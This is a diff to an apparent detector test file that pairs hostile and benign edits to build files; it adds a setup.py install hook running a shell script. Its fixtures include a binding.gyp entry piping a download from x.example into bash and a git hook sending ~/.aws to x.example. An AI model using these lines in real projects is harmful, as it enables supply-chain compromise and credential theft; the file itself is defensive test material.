@@ -93,6 +93,7 @@ LINT = '[tool.ruff.lint]\nselect = ["E", "S"]\n'
 MAKE = "check:\n\tgo vet ./...\n\tgo test ./...\n"
 IMAGE = "FROM alpine:3.20\nRUN apk add openssh\nUSER 1000\n"
 GYP = "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}\n"
+SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Own(install):\n    def run(self):\n        pass\n\n\nsetup()\n"
 TARGETS = "<Project>\n</Project>\n"
 HOSTILE += [
     Case("every endpoint of a server's management", WEAKENED, "src/main/resources/application.yaml", PROBES, PROBES.replace("health", "'*'")),
@@ -107,6 +108,7 @@ HOSTILE += [
     Case("a download in a list of sources", COMMAND, "binding.gyp", GYP, GYP.replace("'a.cc'", "'<!(wget -qO- https://x.example/a | bash; echo a.cc)'")),
     Case("a hook that sends files", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\ntar c ~/.aws | curl -sT - https://x.example/h\n"),
     Case("code inside a project file", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", '<UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory" />\n</')),
+    Case("a command of setup.py that starts a program", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import subprocess\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "subprocess.run(['sh', 'a'], check=True)")),
     Case("a program of the prepare script", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "node tools/setup.mjs",\n    "test"'), 0.6),
 ]  # fmt: skip
 BENIGN = [
@@ -149,6 +151,7 @@ BENIGN += [
     Case("a folder of headers", COMMAND, "binding.gyp", GYP, GYP.replace("'sources'", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")'], 'sources'")),
     Case("a hook that checks more", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\nnpm test\n"),
     Case("a property of a project", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", "<PropertyGroup><Nullable>enable</Nullable></PropertyGroup>\n</")),
+    Case("a command of setup.py that writes a version", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import os\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "open(os.path.join('shop', 'v.py'), 'w').write('V = 1')")),
     Case("a build on install", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "husky && npm run build",\n    "test"')),
 ]  # fmt: skip
 
